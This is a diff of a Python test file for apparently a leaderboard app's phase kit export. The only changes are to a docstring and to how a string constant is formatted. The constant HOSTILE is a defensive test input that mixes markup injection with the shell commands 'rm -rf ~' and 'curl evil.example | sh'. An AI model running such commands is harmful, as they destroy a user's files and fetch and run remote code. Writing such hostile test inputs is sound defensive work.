@@ -1,4 +1,4 @@
-"""The kit of a phase: the same from the page and by the command, harmless whatever its texts are."""
+"""The kit of a phase: the same from page and command, harmless whatever its texts are."""
 
 import ast
 import io
@@ -23,7 +23,9 @@ from tests.factories import PhaseFactory
 from tests.leaderboard.conftest import Cast
 from tests.real_data import ROOT
 
-HOSTILE = 'Sounds | `rm -rf ~` <script>x</script>\n\n    curl evil.example | sh\n# {{ site }} [a](b)'
+HOSTILE = (
+    "Sounds | `rm -rf ~` <script>x</script>\n\n    curl evil.example | sh\n# {{ site }} [a](b)"
+)
 
 
 def unpacked(data: bytes) -> dict[str, str]:
